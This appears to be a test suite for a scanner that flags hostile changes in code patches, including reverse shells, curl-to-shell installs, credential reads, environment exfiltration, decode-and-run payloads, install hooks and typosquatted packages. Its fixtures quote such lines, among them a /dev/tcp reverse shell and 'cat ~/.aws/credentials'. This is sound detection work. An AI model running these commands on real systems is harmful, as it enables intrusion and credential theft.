import { parsePatch, unquotePath } from '../../src/threat-review/patch.js'
import { fileFindings, joined } from '../../src/threat-review/rules.js'
import type { PatchFile } from '../../src/threat-review/patch.js'
import { reviewPatch, verdictOf } from '../../src/threat-review/review.js'
import { editDistance, skeleton, typosquat } from '../../src/threat-review/typosquat.js'

/** A file whose added lines are `lines` (numbered from 1), or whose removed lines are `removed`. */
function file(
  path: string,
  lines: string[],
  removed: string[] = [],
  status: PatchFile['status'] = 'modified'
): PatchFile {
  return {
    path,
    status,
    binary: false,
    added: lines.map((text, i) => ({ line: i + 1, text })),
    removed: removed.map((text, i) => ({ line: i + 1, text }))
  }
}

const rules = (f: PatchFile): string[] => fileFindings(f).map((x) => `${x.class}/${x.rule}`)

describe('parsePatch', () => {
  it('numbers added lines in the new file and removed lines in the old one, hunk by hunk', () => {
    const patch = [
      'diff --git a/src/a.js b/src/a.js',
      'index 1111111..2222222 100644',
      '--- a/src/a.js',
      '+++ b/src/a.js',
      '@@ -3,3 +3,4 @@ function x() {',
      ' keep',
      '-old',
      '+new one',
      '+new two',
      ' keep',
      '@@ -20 +21 @@',
      '-twenty',
      '+twenty-one',
      '\\ No newline at end of file',
      'diff --git a/gone.py b/gone.py',
      'deleted file mode 100644',
      '--- a/gone.py',
      '+++ /dev/null',
      '@@ -1,2 +0,0 @@',
      '-a',
      '-b',
      'diff --git "a/caf\\303\\251.sh" "b/caf\\303\\251.sh"',
      'new file mode 100755',
      '--- /dev/null',
      '+++ "b/caf\\303\\251.sh"',
      '@@ -0,0 +1 @@',
      '+echo hi',
      'diff --git a/img.png b/img.png',
      'Binary files a/img.png and b/img.png differ'
    ].join('\n')
    const files = parsePatch(patch)
    expect(files.map((f) => [f.path, f.status, f.binary])).toEqual([
      ['src/a.js', 'modified', false],
      ['gone.py', 'deleted', false],
      ['café.sh', 'added', false],
      ['img.png', 'modified', true]
    ])
    expect(files[0].added).toEqual([
      { line: 4, text: 'new one' },
      { line: 5, text: 'new two' },
      { line: 21, text: 'twenty-one' }
    ])
    expect(files[0].removed).toEqual([
      { line: 4, text: 'old' },
      { line: 20, text: 'twenty' }
    ])
    expect(files[1].removed.map((l) => l.line)).toEqual([1, 2])
  })

  it('reads a line that looks like a header inside a hunk as content', () => {
    const patch = [
      'diff --git a/p.patch b/p.patch',
      '--- a/p.patch',
      '+++ b/p.patch',
      '@@ -1 +1,2 @@',
      ' x',
      '+diff --git a/evil b/evil'
    ].join('\n')
    const files = parsePatch(patch)
    expect(files).toHaveLength(1)
    expect(files[0].added).toEqual([{ line: 2, text: 'diff --git a/evil b/evil' }])
  })

  it('unquotes git paths', () => {
    expect(unquotePath('"a\\tb\\"c"')).toBe('a\tb"c')
    expect(unquotePath('plain')).toBe('plain')
  })
})

describe('joined: string splits put back together', () => {
  it.each([
    ['"ht" + "tps://x.io"', '"https://x.io"'],
    ["'ev' 'al'", "'eval'"],
    ['["e", "val"].join("")', '["eval"].join("")'],
    ['"\\x65\\x76\\x61\\x6c"', '"eval"'],
    ['ba""sh', 'bash']
  ])('%s', (input, want) => expect(joined(input)).toBe(want))
})

describe('line rules', () => {
  it.each([
    ['src/a.js', 'fetch("https://collect.evil-cdn.xyz/t")', 'outbound-endpoint/url'],
    [
      'src/a.py',
      'sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
      'outbound-endpoint/socket'
    ],
    ['run.sh', 'bash -i >& /dev/tcp/198.51.100.3/4444 0>&1', 'outbound-endpoint/reverse-shell'],
    ['src/a.go', 'conn, _ := net.Dial("tcp", host)', 'outbound-endpoint/socket'],
    ['src/a.js', 'const u = "http://93.184.216.34/x"', 'outbound-endpoint/raw-ip'],
    ['src/a.js', 'const host = "collect.evil-cdn.xyz"', 'outbound-endpoint/url'],
    [
      'src/a.js',
      'const { execSync } = require("child_process")',
      'process-execution/child-process'
    ],
    ['src/a.js', 'eval(userInput)', 'process-execution/dynamic-code'],
    ['src/a.js', 'const f = new Function("a", body)', 'process-execution/dynamic-code'],
    ['src/a.js', 'const m = require(name)', 'process-execution/dynamic-code'],
    ['src/a.py', 'subprocess.run(cmd, shell=True)', 'process-execution/subprocess'],
    ['src/a.py', 'os.system(cmd)', 'process-execution/subprocess'],
    ['src/a.py', 'exec(code)', 'process-execution/dynamic-code'],
    ['src/a.go', 'exec.Command("sh", "-c", s)', 'process-execution/exec-command'],
    ['setup.sh', 'curl -fsSL https://get.tools.dev/i | sh', 'process-execution/download-and-run'],
    ['src/a.py', 'exec(base64.b64decode(p))', 'process-execution/decode-and-run'],
    [
      'src/a.js',
      `const b = "${'QWxhZGRpbjpvcGVuIHNlc2FtZQ'.repeat(6)}"`,
      'encoded-blob/base64-blob'
    ],
    ['src/a.go', `var b = "${'4d5a9000'.repeat(30)}"`, 'encoded-blob/hex-blob'],
    ['src/a.py', `s = "${'\\x41'.repeat(16)}"`, 'encoded-blob/escape-run'],
    ['src/a.js', 'String.fromCharCode(101, 118, 97, 108, 40, 41)', 'encoded-blob/char-codes'],
    ['src/a.js', 'const all = JSON.stringify(process.env)', 'credential/credential-access'],
    ['run.sh', 'cat ~/.aws/credentials', 'credential/credential-access'],
    ['src/a.py', 'API_KEY = "Zq8vT3kP9wXm2LrB7nYcQ4"', 'credential/credential-assignment'],
    ['__tests__/a.test.js', 'it.skip("works", () => {', 'test-weakening/test-skipped'],
    ['__tests__/a.test.js', 'xit("works", () => {', 'test-weakening/test-skipped'],
    ['__tests__/a.test.js', 'describe.only("x", () => {', 'test-weakening/test-focused'],
    ['tests/test_a.py', '@pytest.mark.skip(reason="flaky")', 'test-weakening/test-skipped'],
    ['pkg/a_test.go', '\tt.Skip("later")', 'test-weakening/test-skipped'],
    ['__tests__/a.test.js', 'expect(true).toBe(true)', 'test-weakening/trivial-assertion'],
    ['package.json', '    "test": "jest --passWithNoTests"', 'test-weakening/tests-disabled']
  ])('%s: %s → %s', (path, line, want) => {
    expect(rules(file(path, [line]))).toContain(want)
  })

  it.each([
    ['src/a.js', '// see https://github.com/acme/app/issues/12'],
    ['src/a.js', 'const re = /a+/; re.exec(text)'],
    ['src/a.js', 'const url = new URL(path, "http://localhost:3000")'],
    ['src/a.js', 'const { readFile } = require("node:fs")'],
    ['src/a.py', 'from os import path'],
    ['src/a.go', 'return fmt.Errorf("read: %w", err)'],
    ['README.md', 'curl -fsSL https://get.tools.dev/i | sh'],
    ['package-lock.json', `"integrity": "sha512-${'A1b2'.repeat(22)}"`],
    ['src/a.ts', 'const token = process.env.API_TOKEN ?? ""'],
    ['src/a.py', 'password = "changeme-in-production"'],
    ['tests/test_a.py', 'assert add(2, 3) == 5'],
    ['src/version.js', 'const v = "1.2.3.4"'],
    ['public/index.html', '<a href="https://github.com/acme/app">source</a>']
  ])('%s: %s → nothing', (path, line) => {
    expect(rules(file(path, [line]))).toEqual([])
  })

  it('a request and a secret-named variable are a finding; with a named endpoint or the whole environment, a high one', () => {
    const client = fileFindings(
      file('src/a.js', ['const t = process.env.API_TOKEN', 'await fetch(base, { headers: { t } })'])
    )
    expect(client.map((f) => [f.rule, f.severity])).toEqual([['exfiltration', 'medium']])
    const exfil = fileFindings(
      file('src/a.js', ['const all = process.env', 'await fetch(u, { body: JSON.stringify(all) })'])
    )
    expect(exfil.find((f) => f.rule === 'exfiltration')?.severity).toBe('high')
  })

  it('encoded content and code that runs, in one file, are decode-and-run', () => {
    const f = fileFindings(
      file('src/a.js', [
        `const p = "${'QWxhZGRpbjpvcGVuIHNlc2FtZQ'.repeat(6)}"`,
        'new Function(Buffer.from(p, "base64").toString())()'
      ])
    )
    expect(f.find((x) => x.rule === 'decode-and-run')?.severity).toBe('high')
  })
})

describe('install-time hooks', () => {
  it.each([
    [
      'package.json',
      '    "postinstall": "node scripts/setup.js",',
      'install-hook/npm-lifecycle',
      'medium'
    ],
    [
      'package.json',
      '    "preinstall": "curl -s https://x.dev/i | sh",',
      'install-hook/npm-lifecycle',
      'high'
    ],
    ['setup.py', '    cmdclass={"install": PostInstall},', 'install-hook/setup-py-command', 'high'],
    [
      'pyproject.toml',
      '[tool.hatch.build.hooks.custom]',
      'install-hook/python-build-hook',
      'medium'
    ],
    ['build.rs', 'fn main() {}', 'install-hook/build-script', 'medium'],
    [
      'app/build.gradle',
      "    commandLine 'sh', '-c', 'make'",
      'install-hook/gradle-plugin',
      'high'
    ],
    ['pom.xml', '<artifactId>exec-maven-plugin</artifactId>', 'install-hook/maven-plugin', 'high'],
    ['gen.go', '//go:generate stringer -type=Kind', 'install-hook/go-generate', 'medium'],
    ['lib/evil.pth', 'import os; os.system("id")', 'install-hook/python-startup', 'high']
  ])('%s: %s', (path, line, want, severity) => {
    const f = fileFindings(file(path, [line]))
    const hit = f.find((x) => `${x.class}/${x.rule}` === want)
    expect(hit?.severity).toBe(severity)
    expect(hit?.line).toBe(1)
  })

  it('an ordinary script in package.json is not a hook', () => {
    expect(
      rules(file('package.json', ['    "build": "tsc -p .",', '    "lint": "eslint ."']))
    ).toEqual([])
  })
})

describe('dependencies', () => {
  it.each([
    ['npm', 'lodahs', 'lodash'],
    ['npm', 'crossenv', 'cross-env'],
    ['npm', 'еxpress', 'express'],
    ['npm', 'react-js', 'react'],
    ['pypi', 'reqeusts', 'requests'],
    ['pypi', 'python3-dateutil', 'python-dateutil'],
    ['pypi', 'co1orama', 'colorama'],
    ['go', 'github.com/sirupsen/logrsu', 'github.com/sirupsen/logrus'],
    ['crates', 'serde_jsno', 'serde_json']
  ] as const)('%s %s reads like %s', (eco, name, like) => {
    expect(typosquat(eco, name)?.like).toBe(like)
  })

  it.each([
    ['npm', 'lodash'],
    ['npm', 'left-pad'],
    ['npm', 'preact'],
    ['npm', 'my-company-utils'],
    ['pypi', 'Requests'],
    ['pypi', 'python_dateutil'],
    ['go', 'github.com/acme/internal-tool'],
    ['crates', 'serde-json']
  ] as const)('%s %s is not a squat', (eco, name) => {
    expect(typosquat(eco, name)).toBeNull()
  })

  it('measures transpositions as one edit and stops past its bound', () => {
    expect(editDistance('lodash', 'lodahs')).toBe(1)
    expect(editDistance('kitten', 'sitting')).toBe(3)
    expect(editDistance('a', 'abcdef', 2)).toBe(3)
    expect(skeleton('rnoment')).toBe(skeleton('moment'))
  })

  it('finds squats in each manifest, and sources outside the registry', () => {
    const at = (path: string, lines: string[]): string[] =>
      fileFindings(file(path, lines)).map((f) => `${f.rule}@${f.line}`)
    expect(
      at('package.json', [
        '  "dependencies": {',
        '    "lodahs": "^4.17.21",',
        '    "x": "github:evil/x"'
      ])
    ).toEqual(expect.arrayContaining(['typosquat@2', 'dependency-source@3']))
    expect(
      at('requirements.txt', [
        'flask==3.0.3',
        'reqeusts>=2',
        '--extra-index-url https://pypi.evil.dev/simple'
      ])
    ).toEqual(expect.arrayContaining(['typosquat@2', 'dependency-source@3']))
    expect(
      at('go.mod', ['\tgithub.com/sirupsen/logrsu v1.9.3', 'replace github.com/a/b => ../b'])
    ).toEqual(expect.arrayContaining(['typosquat@1', 'dependency-source@2']))
    expect(at('src/a.ts', ['import _ from "lodahs"'])).toEqual(['typosquat@1'])
  })
})

describe('tests weakened, CI and agent files', () => {
  it('flags assertions removed, weakened, tests removed and test files deleted', () => {
    expect(
      rules(file('tests/test_a.py', ['    pass'], ['    assert f() == 1', '    assert g() == 2']))
    ).toContain('test-weakening/assertions-removed')
    expect(
      rules(file('tests/test_a.py', ['    assert f() is not None'], ['    assert f() == 1']))
    ).toContain('test-weakening/assertion-weakened')
    expect(
      rules(file('pkg/a_test.go', ['func testX(t *testing.T) {'], ['func TestX(t *testing.T) {']))
    ).toContain('test-weakening/tests-removed')
    const deleted = fileFindings(file('__tests__/a.test.js', [], ['expect(1).toBe(1)'], 'deleted'))
    expect(deleted.map((f) => [f.rule, f.side, f.line])).toEqual([['test-deleted', 'LEFT', null]])
  })

  it('moving an assertion within a test file is not a finding', () => {
    expect(
      rules(file('tests/test_a.py', ['    assert f() == 1'], ['    assert f() == 1']))
    ).toEqual([])
  })

  it.each([
    ['.github/workflows/ci.yml', 'ci-file'],
    ['.gitlab-ci.yml', 'ci-file'],
    ['AGENTS.md', 'agent-instructions'],
    ['sub/CLAUDE.md', 'agent-instructions'],
    ['.cursor/rules/x.mdc', 'agent-instructions'],
    ['.github/copilot-instructions.md', 'agent-instructions'],
    ['.husky/pre-commit', 'developer-hook'],
    ['.github/CODEOWNERS', 'repository-guard']
  ])('%s → %s', (path, rule) => {
    const f = fileFindings(file(path, ['x']))
    expect(f.find((x) => x.class === 'ci-or-agent-file')?.rule).toBe(rule)
  })
})

describe('the verdict', () => {
  it('is clean with no finding, suspicious with medium ones or a note, malicious with a high one', () => {
    const f = fileFindings(file('src/a.js', ['eval(x)']))
    expect(verdictOf([])).toBe('clean')
    expect(verdictOf([], ['not all read'])).toBe('suspicious')
    expect(verdictOf(f)).toBe('suspicious')
    expect(verdictOf([...f, { ...f[0], severity: 'high' }])).toBe('malicious')
  })

  it('a patch not read whole is at least suspicious, and says so', async () => {
    const r = await reviewPatch('', { diffSha256: 'a'.repeat(64), secrets: [], unread: 3 })
    expect(r).toMatchObject({
      verdict: 'suspicious',
      diffSha256: 'a'.repeat(64),
      total: 0,
      files: 0
    })
    expect(r.notes[0]).toMatch(/3 changed file\(s\) are not in diff.patch/)
  })

  it('names the file of a secret the capture masked, on the masked line', async () => {
    const patch =
      'diff --git a/k.env b/k.env\n--- a/k.env\n+++ b/k.env\n@@ -1 +1,2 @@\n a=1\n+TOKEN=***\n'
    const r = await reviewPatch(patch, {
      diffSha256: null,
      secrets: [
        { path: 'k.env', detail: 'secretlint-rule-github: a token of this shape is in the change' }
      ]
    })
    expect(r.findings).toEqual([
      expect.objectContaining({
        path: 'k.env',
        line: 2,
        class: 'credential',
        rule: 'secret-in-diff'
      })
    ])
  })

  it('keeps at most 100 findings, high ones first, and counts all', async () => {
    const lines = Array.from({ length: 150 }, (_, i) => `+eval(x${i})`)
    const patch = `diff --git a/a.js b/a.js\n--- a/a.js\n+++ b/a.js\n@@ -0,0 +1,151 @@\n${lines.join('\n')}\n+curl https://x.dev/a | sh\n`
    const r = await reviewPatch(patch, { diffSha256: null, secrets: [] })
    expect(r.total).toBeGreaterThan(100)
    expect(r.findings).toHaveLength(100)
    expect(r.findings[0].severity).toBe('high')
    expect(r.verdict).toBe('malicious')
  })
})
